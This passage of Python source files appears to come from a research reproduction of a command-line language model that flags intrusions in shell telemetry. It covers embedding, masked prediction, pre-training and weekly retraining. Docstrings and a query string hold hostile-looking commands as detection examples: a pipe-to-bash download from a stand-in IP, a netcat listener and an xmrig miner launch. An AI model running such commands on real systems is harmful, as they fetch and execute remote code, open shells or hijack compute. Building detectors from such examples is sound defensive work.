The pre-trained model "can be regarded as a powerful encoder"
(Section III); :class:`CommandEncoder` wraps tokenizer + model and
exposes batched embedding extraction with mean or CLS pooling.
"""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

from repro.lm.model import CommandLineLM
from repro.lm.pooling import POOLERS, pool
from repro.nn.inference import InferencePlan
from repro.nn.module import no_grad
from repro.tokenizer.bpe import BPETokenizer


class CommandEncoder:
    """Embed command lines with a (pre-)trained language model.

    Parameters
    ----------
    model:
        A :class:`CommandLineLM` (put into eval mode on construction).
    tokenizer:
        The matching trained :class:`BPETokenizer`.
    pooling:
        ``"mean"`` (Section III default) or ``"cls"``.
    batch_size:
        Lines embedded per forward pass.

    After :meth:`compile_inference`, the embed paths run through a
    graph-free :class:`~repro.nn.inference.InferencePlan` instead of the
    autograd tape; in float64 mode the embeddings are bitwise-identical
    either way (chunk composition, padding, and pooling are replicated
    exactly).  Further training of ``model`` requires recompiling — the
    plan snapshots the weights.

    Example
    -------
    >>> encoder = CommandEncoder(model, tokenizer)     # doctest: +SKIP
    >>> vectors = encoder.embed(["ls -la", "nc -lvnp 4444"])  # doctest: +SKIP
    >>> vectors.shape                                   # doctest: +SKIP
    (2, 64)
    """

    def __init__(
        self,
        model: CommandLineLM,
        tokenizer: BPETokenizer,
        pooling: str = "mean",
        batch_size: int = 32,
    ):
        if pooling not in POOLERS:
            raise ValueError(f"unknown pooling {pooling!r}; choose from {POOLERS}")
        if tokenizer.vocab is None:
            raise ValueError("tokenizer must be trained")
        if len(tokenizer.vocab) > model.config.vocab_size:
            raise ValueError(
                f"tokenizer vocab ({len(tokenizer.vocab)}) exceeds model vocab "
                f"({model.config.vocab_size})"
            )
        self.model = model
        self.tokenizer = tokenizer
        self.pooling = pooling
        self.batch_size = batch_size
        self.model.eval()
        self._plan: InferencePlan | None = None

    @property
    def embedding_dim(self) -> int:
        """Width of produced embeddings."""
        return self.model.config.hidden_size

    @property
    def inference_plan(self) -> InferencePlan | None:
        """The compiled plan serving the embed paths, if any."""
        return self._plan

    def compile_inference(self, precision: str = "float64") -> InferencePlan:
        """Compile the model into an :class:`InferencePlan` and route
        :meth:`embed`/:meth:`embed_batch`/:meth:`embed_tokens` through it.

        Raises :class:`~repro.nn.inference.InferenceCompileError` when
        the model is outside the compiler's surface; the encoder is left
        on the Tensor path in that case.
        """
        plan = InferencePlan.compile(self.model, precision)
        self._plan = plan
        return plan

    def reset_inference(self) -> None:
        """Drop the compiled plan and return to the Tensor-tape path."""
        self._plan = None

    def embed(self, lines: Sequence[str], pooling: str | None = None) -> np.ndarray:
        """Embed *lines* into an ``(N, hidden_size)`` float array."""
        strategy = pooling or self.pooling
        if strategy not in POOLERS:
            raise ValueError(f"unknown pooling {strategy!r}; choose from {POOLERS}")
        if not lines:
            return np.zeros((0, self.embedding_dim))
        # Length-bucketed batching: embedding in length order avoids
        # padding every batch to the corpus-wide maximum.
        order = sorted(range(len(lines)), key=lambda i: len(lines[i]))
        plan = self._plan
        result = np.empty(
            (len(lines), self.embedding_dim),
            dtype=plan.dtype if plan is not None else np.float64,
        )
        if plan is not None:
            for start in range(0, len(order), self.batch_size):
                chunk_indices = order[start : start + self.batch_size]
                ids, mask = self._encode_batch([lines[i] for i in chunk_indices])
                # assignment copies the scratch view before the next chunk
                result[chunk_indices] = plan.pooled(ids, mask, strategy)
            return result
        with no_grad(self.model):
            for start in range(0, len(order), self.batch_size):
                chunk_indices = order[start : start + self.batch_size]
                ids, mask = self._encode_batch([lines[i] for i in chunk_indices])
                hidden = self.model(ids, mask)
                result[chunk_indices] = pool(hidden, mask, strategy).data
        return result

    def embed_batch(self, batch, pooling: str | None = None) -> np.ndarray:
        """Embed a pre-tokenized :class:`~repro.tokenizer.columnar.TokenBatch`.

        The columnar twin of :meth:`embed`: consumes the padded id
        matrix directly instead of re-tokenizing per line.  Chunking
        replicates :meth:`embed` exactly — a stable sort on the source
        lines' *character* lengths, ``batch_size`` rows per forward
        pass, each chunk padded to its own max token width — so for the
        same lines the two paths produce **bitwise-identical**
        embeddings (chunk composition changes the blocked-summation
        grouping inside BLAS, so replicating it is part of the
        contract, not an optimization).
        """
        strategy = pooling or self.pooling
        if strategy not in POOLERS:
            raise ValueError(f"unknown pooling {strategy!r}; choose from {POOLERS}")
        n = len(batch)
        if n == 0:
            return np.zeros((0, self.embedding_dim))
        order = np.argsort(batch.char_lengths, kind="stable")
        plan = self._plan
        result = np.empty(
            (n, self.embedding_dim),
            dtype=plan.dtype if plan is not None else np.float64,
        )
        if plan is not None:
            for start in range(0, n, self.batch_size):
                rows = order[start : start + self.batch_size]
                lengths = batch.lengths[rows]
                width = int(lengths.max())
                ids = batch.ids[rows][:, :width]
                mask = np.arange(width) < lengths[:, None]
                result[rows] = plan.pooled(ids, mask, strategy)
            return result
        with no_grad(self.model):
            for start in range(0, n, self.batch_size):
                rows = order[start : start + self.batch_size]
                lengths = batch.lengths[rows]
                width = int(lengths.max())
                ids = batch.ids[rows][:, :width]
                mask = np.arange(width) < lengths[:, None]
                hidden = self.model(ids, mask)
                result[rows] = pool(hidden, mask, strategy).data
        return result

    def embed_tokens(self, line: str) -> np.ndarray:
        """Per-token embeddings ``(T, hidden_size)`` for a single line."""
        ids, mask = self._encode_batch([line])
        if self._plan is not None:
            # fancy indexing copies out of the plan's scratch
            return self._plan.forward(ids, mask)[0, mask[0]]
        with no_grad(self.model):
            hidden = self.model(ids, mask)
        return hidden.data[0, mask[0]]

    def _encode_batch(self, lines: Sequence[str]) -> tuple[np.ndarray, np.ndarray]:
        max_len = self.model.config.max_position
        encodings = [
            self.tokenizer.encode(line, add_special_tokens=True, max_length=max_len) for line in lines
        ]
        width = max(len(e) for e in encodings)
        vocab = self.tokenizer.vocab
        assert vocab is not None
        ids = np.full((len(encodings), width), vocab.pad_id, dtype=np.int64)
        mask = np.zeros((len(encodings), width), dtype=bool)
        for row, encoding in enumerate(encodings):
            ids[row, : len(encoding)] = encoding.ids
            mask[row, : len(encoding)] = True
        return ids, mask
