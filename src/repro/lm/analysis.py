"""Qualitative analysis utilities for the pre-trained LM.

Section II-B motivates MLM pre-training with an inspection example:
given ``[MASK] http://*/*.sh | bash``, "those familiar with the
command-line interface should know that the masked token is likely to
be curl or wget."  :class:`MaskedPredictor` lets you run exactly that
query against a trained model; :class:`EmbeddingExplorer` answers
nearest-neighbour questions in embedding space; :func:`pseudo_perplexity`
quantifies how well the model fits held-out command lines.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

import numpy as np

from repro.lm.encoder_api import CommandEncoder
from repro.nn.module import no_grad

#: The placeholder users write in query strings, swapped for the real
#: mask token at encode time.
MASK_PLACEHOLDER = "[MASK]"


@dataclass(frozen=True)
class MaskPrediction:
    """One candidate filling for a masked position."""

    token: str
    probability: float


class MaskedPredictor:
    """Fill-in-the-blank queries against the MLM head.

    Example
    -------
    >>> predictor = MaskedPredictor(encoder)                   # doctest: +SKIP
    >>> predictor.predict("[MASK] http://x/a.sh | bash")[0].token  # doctest: +SKIP
    '▁curl'
    """

    def __init__(self, encoder: CommandEncoder):
        self.encoder = encoder

    def predict(self, line: str, top_k: int = 5) -> list[MaskPrediction]:
        """Top-*k* vocabulary fillings for the first ``[MASK]`` in *line*.

        The placeholder must appear as a whitespace-separated word.

        Raises
        ------
        ValueError
            If *line* contains no ``[MASK]`` placeholder.
        """
        if MASK_PLACEHOLDER not in line.split():
            raise ValueError(f"line must contain a standalone {MASK_PLACEHOLDER} word")
        tokenizer = self.encoder.tokenizer
        vocab = tokenizer.vocab
        assert vocab is not None
        ids: list[int] = [vocab.cls_id]
        mask_position = None
        for word in line.split():
            if word == MASK_PLACEHOLDER and mask_position is None:
                mask_position = len(ids)
                ids.append(vocab.mask_id)
            else:
                for token in tokenizer.segment_word("▁" + word):
                    ids.append(vocab.id_of(token))
        ids.append(vocab.sep_id)
        ids = ids[: self.encoder.model.config.max_position]
        assert mask_position is not None and mask_position < len(ids)
        batch = np.array([ids])
        mask = np.ones_like(batch, dtype=bool)
        with no_grad(self.encoder.model):
            logits = self.encoder.model.mlm_logits(batch, mask).data[0, mask_position]
        shifted = logits - logits.max()
        probabilities = np.exp(shifted)
        probabilities /= probabilities.sum()
        top = np.argsort(-probabilities)[:top_k]
        return [MaskPrediction(vocab.token_of(int(i)), float(probabilities[i])) for i in top]

    def paper_example(self, top_k: int = 5) -> list[MaskPrediction]:
        """The Section II-B query: ``[MASK] http://*/*.sh | bash``."""
        return self.predict("[MASK] http://203.0.113.7/install.sh | bash", top_k=top_k)


class EmbeddingExplorer:
    """Nearest-neighbour queries over a corpus of command-line embeddings."""

    def __init__(self, encoder: CommandEncoder, corpus: Sequence[str]):
        self.encoder = encoder
        self.corpus = list(corpus)
        matrix = encoder.embed(self.corpus)
        norms = np.linalg.norm(matrix, axis=1, keepdims=True)
        norms[norms == 0.0] = 1.0
        self._normalized = matrix / norms

    def neighbours(self, line: str, k: int = 5) -> list[tuple[str, float]]:
        """The *k* most similar corpus lines to *line* (cosine)."""
        query = self.encoder.embed([line])[0]
        norm = np.linalg.norm(query) or 1.0
        similarity = self._normalized @ (query / norm)
        order = np.argsort(-similarity)[:k]
        return [(self.corpus[int(i)], float(similarity[i])) for i in order]

    def similarity(self, left: str, right: str) -> float:
        """Cosine similarity between two command lines."""
        vectors = self.encoder.embed([left, right])
        denominator = np.linalg.norm(vectors[0]) * np.linalg.norm(vectors[1])
        if denominator == 0.0:
            return 0.0
        return float(vectors[0] @ vectors[1] / denominator)


def pseudo_perplexity(encoder: CommandEncoder, lines: Sequence[str], seed: int = 0, mask_prob: float = 0.15) -> float:
    """Monte-Carlo pseudo-perplexity of *lines* under the MLM.

    Each line is masked once (dynamically, with probability
    *mask_prob*) and the exponentiated mean cross-entropy over masked
    positions is returned — a cheap proxy for model fit used by the
    continual-learning and analysis examples.
    """
    from repro.lm.masking import IGNORE_INDEX, MLMCollator
    from repro.nn import functional as F

    collator = MLMCollator(encoder.tokenizer, mask_prob=mask_prob,
                           max_length=encoder.model.config.max_position, seed=seed)
    total_loss = 0.0
    total_predictions = 0
    with no_grad(encoder.model):
        for start in range(0, len(lines), encoder.batch_size):
            chunk = list(lines[start : start + encoder.batch_size])
            if not chunk:
                continue
            batch = collator.collate(chunk)
            if batch.n_predictions == 0:
                continue
            logits = encoder.model.mlm_logits(batch.input_ids, batch.attention_mask)
            loss = F.cross_entropy(logits, batch.labels, ignore_index=IGNORE_INDEX)
            total_loss += loss.item() * batch.n_predictions
            total_predictions += batch.n_predictions
    if total_predictions == 0:
        return float("inf")
    return float(np.exp(total_loss / total_predictions))
