"""Configuration for the command-line language model.

The paper's production model is BERT-base (12 blocks, 12 heads, hidden
768, max 1024 tokens, BPE vocab 50k).  :meth:`LMConfig.bert_base`
constructs exactly that; the scaled-down presets keep every mechanism
while fitting CPU budgets (see DESIGN.md §5).
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass
from pathlib import Path

from repro.errors import ConfigError


@dataclass(frozen=True)
class LMConfig:
    """Hyper-parameters of the MLM encoder.

    Attributes
    ----------
    vocab_size:
        Tokenizer vocabulary size (embedding rows).
    hidden_size:
        Transformer width.
    n_layers / n_heads / intermediate_size:
        Encoder depth, attention heads, and FFN width.
    max_position:
        Maximum sequence length (learned positional embeddings).
    dropout:
        Dropout probability applied to embeddings, attention weights,
        and FFN outputs.
    mask_prob:
        MLM masking probability ``q`` (RoBERTa uses 0.15).
    seed:
        Seed for weight initialization.
    """

    vocab_size: int
    hidden_size: int = 64
    n_layers: int = 2
    n_heads: int = 4
    intermediate_size: int = 128
    max_position: int = 64
    dropout: float = 0.1
    mask_prob: float = 0.15
    seed: int = 0

    def __post_init__(self):
        if self.vocab_size < 6:
            raise ConfigError("vocab_size must cover at least the special tokens")
        if self.hidden_size % self.n_heads != 0:
            raise ConfigError(
                f"hidden_size {self.hidden_size} must be divisible by n_heads {self.n_heads}"
            )
        if not 0.0 < self.mask_prob < 1.0:
            raise ConfigError("mask_prob must be in (0, 1)")
        if not 0.0 <= self.dropout < 1.0:
            raise ConfigError("dropout must be in [0, 1)")
        if min(self.n_layers, self.max_position, self.intermediate_size) < 1:
            raise ConfigError("n_layers, max_position, intermediate_size must be >= 1")

    # -- presets -----------------------------------------------------------

    @classmethod
    def tiny(cls, vocab_size: int, **overrides) -> "LMConfig":
        """Smallest useful model; default for unit tests."""
        defaults = dict(hidden_size=32, n_layers=2, n_heads=2, intermediate_size=64, max_position=48)
        defaults.update(overrides)
        return cls(vocab_size=vocab_size, **defaults)

    @classmethod
    def small(cls, vocab_size: int, **overrides) -> "LMConfig":
        """Default for experiments and benchmarks."""
        defaults = dict(hidden_size=64, n_layers=3, n_heads=4, intermediate_size=128, max_position=64)
        defaults.update(overrides)
        return cls(vocab_size=vocab_size, **defaults)

    @classmethod
    def bert_base(cls, vocab_size: int = 50_000, **overrides) -> "LMConfig":
        """The paper's production configuration (BERT-base, max 1024)."""
        defaults = dict(
            hidden_size=768, n_layers=12, n_heads=12, intermediate_size=3072, max_position=1024
        )
        defaults.update(overrides)
        return cls(vocab_size=vocab_size, **defaults)

    # -- persistence ---------------------------------------------------------

    def to_json(self, path: str | Path) -> None:
        """Write this config as JSON."""
        Path(path).write_text(json.dumps(asdict(self), indent=2))

    @classmethod
    def from_json(cls, path: str | Path) -> "LMConfig":
        """Load a config written by :meth:`to_json`."""
        try:
            payload = json.loads(Path(path).read_text())
        except (OSError, json.JSONDecodeError) as exc:
            raise ConfigError(f"cannot load LMConfig from {path}: {exc}") from exc
        return cls(**payload)
