"""Self-supervised MLM pre-training loop (Section II-B).

The :class:`Pretrainer` consumes a corpus of command lines, draws
shuffled mini-batches, applies dynamic masking, and minimises the MLM
cross-entropy with AdamW under a warmup-linear schedule — the standard
BERT/RoBERTa recipe at reproduction scale.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

import numpy as np

from repro.lm.masking import IGNORE_INDEX, MLMCollator
from repro.lm.model import CommandLineLM
from repro.nn import functional as F
from repro.nn.optim import AdamW, clip_grad_norm
from repro.nn.schedule import LRSchedule, WarmupLinearSchedule


@dataclass
class PretrainReport:
    """Training history produced by :meth:`Pretrainer.train`."""

    losses: list[float] = field(default_factory=list)
    masked_accuracies: list[float] = field(default_factory=list)
    steps: int = 0

    @property
    def final_loss(self) -> float:
        """Loss of the last optimization step."""
        if not self.losses:
            raise ValueError("no training steps recorded")
        return self.losses[-1]

    def smoothed_loss(self, window: int = 20) -> float:
        """Mean loss over the trailing *window* steps."""
        if not self.losses:
            raise ValueError("no training steps recorded")
        return float(np.mean(self.losses[-window:]))


class Pretrainer:
    """Run MLM pre-training of a :class:`CommandLineLM`.

    Parameters
    ----------
    model:
        The language model to train (modified in place).
    collator:
        Tokenization + masking pipeline.
    lr / weight_decay / warmup_fraction:
        AdamW settings; the schedule is linear warmup then linear decay.
    batch_size:
        Mini-batch size.
    max_grad_norm:
        Global gradient-norm clip.
    seed:
        Shuffling seed.
    """

    def __init__(
        self,
        model: CommandLineLM,
        collator: MLMCollator,
        lr: float = 1e-3,
        weight_decay: float = 0.01,
        warmup_fraction: float = 0.1,
        batch_size: int = 16,
        max_grad_norm: float = 1.0,
        seed: int = 0,
    ):
        if batch_size < 1:
            raise ValueError("batch_size must be >= 1")
        self.model = model
        self.collator = collator
        self.lr = lr
        self.weight_decay = weight_decay
        self.warmup_fraction = warmup_fraction
        self.batch_size = batch_size
        self.max_grad_norm = max_grad_norm
        self._rng = np.random.default_rng(seed)

    def train(
        self,
        corpus: Sequence[str],
        epochs: int = 1,
        max_steps: int | None = None,
        progress: Callable[[int, float], None] | None = None,
    ) -> PretrainReport:
        """Pre-train on *corpus*; returns a :class:`PretrainReport`.

        Parameters
        ----------
        corpus:
            Raw command lines (already pre-processed).
        epochs:
            Full passes over the corpus.
        max_steps:
            Optional hard cap on optimizer steps across all epochs.
        progress:
            Optional callback ``(step, loss)`` invoked every step.
        """
        if not corpus:
            raise ValueError("cannot pre-train on an empty corpus")
        # Length-bucketed batching: grouping similar-length lines cuts
        # padding waste dramatically (most command lines are short).
        lengths = np.array([self.collator.tokenizer.token_count(line) for line in corpus])
        by_length = np.argsort(lengths, kind="stable")
        batches = [
            by_length[start : start + self.batch_size]
            for start in range(0, len(corpus), self.batch_size)
        ]
        total_steps = self._planned_steps(len(corpus), epochs, max_steps)
        schedule: LRSchedule = WarmupLinearSchedule(
            peak_lr=self.lr,
            warmup_steps=max(int(self.warmup_fraction * total_steps), 1) if total_steps > 1 else 0,
            total_steps=total_steps,
        )
        optimizer = AdamW(self.model.parameters(), lr=self.lr, weight_decay=self.weight_decay)
        report = PretrainReport()
        self.model.train()
        done = False
        for _ in range(epochs):
            if done:
                break
            batch_order = self._rng.permutation(len(batches))
            for batch_index in batch_order:
                if max_steps is not None and report.steps >= max_steps:
                    done = True
                    break
                lines = [corpus[i] for i in batches[batch_index]]
                batch = self.collator.collate(lines)
                if batch.n_predictions == 0:
                    continue
                optimizer.lr = schedule.lr_at(report.steps)
                optimizer.zero_grad()
                logits = self.model.mlm_logits(batch.input_ids, batch.attention_mask)
                loss = F.cross_entropy(logits, batch.labels, ignore_index=IGNORE_INDEX)
                loss.backward()
                clip_grad_norm(self.model.parameters(), self.max_grad_norm)
                optimizer.step()
                report.steps += 1
                report.losses.append(loss.item())
                report.masked_accuracies.append(self._masked_accuracy(logits.data, batch.labels))
                if progress is not None:
                    progress(report.steps, report.losses[-1])
        self.model.eval()
        return report

    def _planned_steps(self, corpus_size: int, epochs: int, max_steps: int | None) -> int:
        per_epoch = (corpus_size + self.batch_size - 1) // self.batch_size
        planned = per_epoch * epochs
        if max_steps is not None:
            planned = min(planned, max_steps)
        return max(planned, 1)

    @staticmethod
    def _masked_accuracy(logits: np.ndarray, labels: np.ndarray) -> float:
        predicted = logits.argmax(axis=-1)
        mask = labels != IGNORE_INDEX
        if not mask.any():
            return 0.0
        return float((predicted[mask] == labels[mask]).mean())
