"""The weekly continual-learning loop from the paper's introduction.

"Equipped with the command-line language model, we are capable of
building an IDS to continuously learn from tens of millions of user
command lines every week for digging out future attacks and
intrusions."  This module implements that loop: each week's fresh
telemetry continues MLM pre-training from the current checkpoint, the
supervision source re-labels the new window, and the detection head is
re-tuned — so the deployed system tracks both drifting benign behaviour
and newly emerging attack tooling.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.ids.commercial import CommercialIDS
from repro.lm.encoder_api import CommandEncoder
from repro.lm.masking import MLMCollator
from repro.lm.pretrain import Pretrainer, PretrainReport
from repro.loggen.dataset import CommandDataset
from repro.tuning.classification import ClassificationTuner
from repro.tuning.labels import label_with_ids


@dataclass
class WeeklyUpdateReport:
    """What one :meth:`ContinualLearner.update` pass did.

    Attributes
    ----------
    week:
        1-based update counter.
    n_lines:
        Telemetry volume consumed this week.
    n_positive_labels:
        Supervision positives the IDS produced on the new window.
    pretrain:
        The continued-pre-training history for this week.
    """

    week: int
    n_lines: int
    n_positive_labels: int
    pretrain: PretrainReport = field(default_factory=PretrainReport)


class ContinualLearner:
    """Weekly update loop: continue pre-training, re-label, re-tune.

    Parameters
    ----------
    encoder:
        The deployed encoder; its model is updated **in place** (this
        object owns the deployment, unlike the one-shot tuners).
    ids:
        The supervision source queried on each new window.
    update_epochs / update_lr:
        Continued-pre-training recipe per week (briefer and gentler than
        the initial pre-training, as usual for continual LM updates).
    head_lr / head_epochs:
        Re-tuning recipe for the classification head.
    mask_prob / seed:
        Masking settings for the continued MLM.

    Example
    -------
    >>> learner = ContinualLearner(encoder, ids)        # doctest: +SKIP
    >>> learner.update(week3_telemetry)                 # doctest: +SKIP
    >>> learner.tuner.score(["nohup ./xmrig ..."])      # doctest: +SKIP
    """

    def __init__(
        self,
        encoder: CommandEncoder,
        ids: CommercialIDS,
        update_epochs: int = 1,
        update_lr: float = 3e-4,
        head_lr: float = 1e-2,
        head_epochs: int = 5,
        mask_prob: float = 0.15,
        seed: int = 0,
    ):
        self.encoder = encoder
        self.ids = ids
        self.update_epochs = update_epochs
        self.update_lr = update_lr
        self.head_lr = head_lr
        self.head_epochs = head_epochs
        self.mask_prob = mask_prob
        self.seed = seed
        self.tuner: ClassificationTuner | None = None
        self.history: list[WeeklyUpdateReport] = []
        self._cumulative_labeled_lines: list[str] = []
        self._cumulative_labels: list[int] = []

    @property
    def week(self) -> int:
        """Number of completed weekly updates."""
        return len(self.history)

    def update(self, telemetry: CommandDataset, retune: bool = True) -> WeeklyUpdateReport:
        """Consume one week of telemetry.

        Continues MLM pre-training on the new lines, queries the
        commercial IDS for fresh (noisy) labels, accumulates them with
        previous weeks' supervision, and re-tunes the head.
        """
        lines = telemetry.lines()
        if not lines:
            raise ValueError("weekly telemetry is empty")
        week = self.week + 1
        collator = MLMCollator(
            self.encoder.tokenizer,
            mask_prob=self.mask_prob,
            max_length=self.encoder.model.config.max_position,
            seed=self.seed + week,
        )
        pretrainer = Pretrainer(
            self.encoder.model,
            collator,
            lr=self.update_lr,
            batch_size=32,
            seed=self.seed + week,
        )
        report = WeeklyUpdateReport(week=week, n_lines=len(lines), n_positive_labels=0)
        report.pretrain = pretrainer.train(lines, epochs=self.update_epochs)
        labeled = label_with_ids(telemetry, self.ids)
        report.n_positive_labels = labeled.n_positive
        self._cumulative_labeled_lines.extend(labeled.lines)
        self._cumulative_labels.extend(int(v) for v in labeled.labels)
        if retune:
            self.retune()
        self.history.append(report)
        return report

    def retune(self) -> ClassificationTuner:
        """Re-fit the classification head on all supervision seen so far."""
        labels = np.asarray(self._cumulative_labels, dtype=np.int64)
        if labels.sum() == 0:
            raise ValueError("no positive supervision accumulated yet")
        tuner = ClassificationTuner(
            self.encoder,
            lr=self.head_lr,
            epochs=self.head_epochs,
            pooling="mean",
            seed=self.seed + self.week,
        )
        tuner.fit(self._cumulative_labeled_lines, labels)
        self.tuner = tuner
        return tuner

    def score(self, lines: list[str]) -> np.ndarray:
        """Score lines with the current head (after at least one update)."""
        if self.tuner is None:
            raise ValueError("no tuned head yet; call update() first")
        return self.tuner.score(lines)

    def export_service(self, directory, threshold: float = 0.5):
        """Package the current model as a saved service bundle.

        This is the deployment hand-off of the weekly loop: after an
        :meth:`update`, the freshly tuned model is written as an
        :meth:`IntrusionDetectionService.save` bundle that a live
        :class:`~repro.serving.server.DetectionServer` can rotate onto
        via ``swap_model(bundle_dir)`` — zero downtime between the
        weekly retrain and the always-on detector.

        Returns the loaded-back service (bitwise-identical to what any
        scoring worker will deserialize from *directory*).
        """
        from repro.ids.pipeline import IntrusionDetectionService

        if self.tuner is None:
            raise ValueError("no tuned head yet; call update() first")
        service = IntrusionDetectionService.from_tuner(self.tuner, threshold=threshold)
        service.save(directory)
        return IntrusionDetectionService.load(directory)
