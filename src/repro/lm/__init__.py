"""The command-line language model (Sections II-B and III).

Public surface:

- :class:`LMConfig` — architecture presets (``tiny``/``small``/``bert_base``).
- :class:`CommandLineLM` — BERT-style MLM encoder.
- :class:`MLMCollator` / :class:`MLMBatch` — dynamic RoBERTa masking.
- :class:`Pretrainer` / :class:`PretrainReport` — the pre-training loop.
- :class:`CommandEncoder` — text → embedding API.
- :func:`save_pretrained` / :func:`load_pretrained` — bundle IO.
- :func:`pool` / :func:`mean_pool` / :func:`cls_pool` — pooling.
"""

from repro.lm.analysis import EmbeddingExplorer, MaskedPredictor, MaskPrediction, pseudo_perplexity
from repro.lm.checkpoint import load_pretrained, save_pretrained
from repro.lm.continual import ContinualLearner, WeeklyUpdateReport
from repro.lm.config import LMConfig
from repro.lm.encoder_api import CommandEncoder
from repro.lm.masking import IGNORE_INDEX, MLMBatch, MLMCollator
from repro.lm.model import CommandLineLM, MLMHead
from repro.lm.pooling import cls_pool, mean_pool, pool
from repro.lm.pretrain import Pretrainer, PretrainReport

__all__ = [
    "CommandEncoder",
    "ContinualLearner",
    "WeeklyUpdateReport",
    "EmbeddingExplorer",
    "MaskPrediction",
    "MaskedPredictor",
    "CommandLineLM",
    "IGNORE_INDEX",
    "LMConfig",
    "MLMBatch",
    "MLMCollator",
    "MLMHead",
    "Pretrainer",
    "PretrainReport",
    "cls_pool",
    "load_pretrained",
    "mean_pool",
    "pool",
    "pseudo_perplexity",
    "save_pretrained",
]
