"""Command-line entry point: ``repro-ids <experiment>``.

Dispatches to the experiment drivers so every table and figure can be
regenerated from a shell:

.. code-block:: console

   $ repro-ids table1
   $ repro-ids table2 --runs 3
   $ REPRO_SCALE=full repro-ids f1
   $ repro-ids all

``repro-ids serve`` dispatches to the streaming detection server
instead (see :mod:`repro.serving.cli`), and the ``fleet-*`` commands
to the multi-node runtime (see :mod:`repro.fleet.cli`):

.. code-block:: console

   $ repro-ids serve --input telemetry.log --alerts-out alerts.jsonl
   $ repro-ids fleet-node --bind 127.0.0.1:9101 --config fleet.toml
   $ repro-ids fleet-route --config fleet.toml --input telemetry.log
   $ repro-ids fleet-admin --config fleet.toml status
"""

from __future__ import annotations

import argparse
import sys

from repro.experiments import (
    ablations,
    baselines,
    continual,
    f1_comparison,
    figure1,
    figure2,
    table1,
    table2,
    table3,
    unsupervised,
)
from repro.version import __version__

_EXPERIMENTS = {
    "table1": lambda args: table1.main(n_runs=args.runs),
    "table2": lambda args: table2.main(n_runs=args.runs),
    "table3": lambda args: table3.main(),
    "f1": lambda args: f1_comparison.main(),
    "figure1": lambda args: figure1.main(),
    "figure2": lambda args: figure2.main(),
    "unsupervised": lambda args: unsupervised.main(),
    "ablations": lambda args: ablations.main(),
    "baselines": lambda args: baselines.main(),
    "continual": lambda args: continual.main(),
}


def build_parser() -> argparse.ArgumentParser:
    """The argparse definition (exposed for docs and tests)."""
    parser = argparse.ArgumentParser(
        prog="repro-ids",
        description="Regenerate the paper's tables and figures at reproduction scale.",
        epilog="'repro-ids serve' runs the streaming detection server instead "
        "('repro-ids serve --help' for its options).",
    )
    parser.add_argument("--version", action="version", version=f"repro {__version__}")
    parser.add_argument(
        "experiment",
        choices=[*_EXPERIMENTS, "all"],
        help="which table/figure to regenerate ('all' runs everything)",
    )
    parser.add_argument(
        "--runs", type=int, default=5, help="tuning runs for the mean±std tables (default 5)"
    )
    return parser


def main(argv: list[str] | None = None) -> int:
    """CLI entry point; returns a process exit code."""
    argv = list(sys.argv[1:] if argv is None else argv)
    if argv and argv[0] == "serve":
        # serving has its own parser and heavy imports — dispatch early
        from repro.serving.cli import serve_main

        return serve_main(argv[1:])
    if argv and argv[0] in ("fleet-node", "fleet-route", "fleet-admin"):
        from repro.fleet import cli as fleet_cli

        dispatch = {
            "fleet-node": fleet_cli.fleet_node_main,
            "fleet-route": fleet_cli.fleet_route_main,
            "fleet-admin": fleet_cli.fleet_admin_main,
        }
        return dispatch[argv[0]](argv[1:])
    args = build_parser().parse_args(argv)
    names = list(_EXPERIMENTS) if args.experiment == "all" else [args.experiment]
    for name in names:
        print(f"\n=== {name} ===\n")
        _EXPERIMENTS[name](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
