"""Exception hierarchy for the :mod:`repro` library.

Every exception raised intentionally by the library derives from
:class:`ReproError`, so callers can catch library failures without
accidentally swallowing programming errors such as :class:`TypeError`.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by the :mod:`repro` library."""


class ShellSyntaxError(ReproError):
    """A command line could not be parsed into a valid shell AST.

    Attributes
    ----------
    message:
        Human-readable description of the failure.
    position:
        Character offset in the original line where the error was
        detected, or ``None`` when no position is available.
    line:
        The offending command line, when available.
    """

    def __init__(self, message: str, position: int | None = None, line: str | None = None):
        self.message = message
        self.position = position
        self.line = line
        suffix = f" at position {position}" if position is not None else ""
        super().__init__(f"{message}{suffix}")


class TokenizerError(ReproError):
    """Raised for invalid tokenizer configuration or state."""


class NotFittedError(ReproError):
    """Raised when a model is used before being trained or fitted."""


class ConfigError(ReproError):
    """Raised for invalid model, pipeline, or experiment configuration."""


class DataError(ReproError):
    """Raised for malformed or inconsistent dataset inputs."""


class CheckpointError(ReproError):
    """Raised when serialized model state cannot be saved or restored."""


class FleetError(ReproError):
    """Raised for multi-node fleet failures: malformed wire frames, a
    node rejecting an admin verb, or a fleet with no live nodes left."""
