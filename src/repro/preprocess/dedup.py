"""De-duplication of command-line corpora.

The paper de-duplicates the 10M-line test set before computing metrics
"to avoid focusing only on common threats in evaluation" (Section V).
This module provides order-preserving exact de-duplication, optionally
keyed by a normalizing function.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence
from typing import TypeVar

T = TypeVar("T")


def deduplicate(items: Iterable[T], key: Callable[[T], object] | None = None) -> list[T]:
    """Return *items* with duplicates removed, first occurrence kept.

    Parameters
    ----------
    items:
        Any iterable; order is preserved.
    key:
        Optional projection used for equality (default: the item itself).
    """
    seen: set[object] = set()
    result: list[T] = []
    for item in items:
        marker = key(item) if key is not None else item
        if marker in seen:
            continue
        seen.add(marker)
        result.append(item)
    return result


def duplicate_indices(items: Sequence[T], key: Callable[[T], object] | None = None) -> list[int]:
    """Indices of items that are duplicates of an earlier item."""
    seen: set[object] = set()
    duplicates: list[int] = []
    for index, item in enumerate(items):
        marker = key(item) if key is not None else item
        if marker in seen:
            duplicates.append(index)
        else:
            seen.add(marker)
    return duplicates


def unique_fraction(items: Sequence[T], key: Callable[[T], object] | None = None) -> float:
    """Fraction of *items* that are first occurrences (1.0 when empty)."""
    if not items:
        return 1.0
    return len(deduplicate(items, key=key)) / len(items)
