"""The end-to-end pre-processing pipeline of Figure 2.

``raw logs → normalize → parser filter → concerned-command filter``

The pipeline records per-stage statistics so the Figure-2 experiment can
report how many lines each stage removed and the resulting command
occurrence table.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
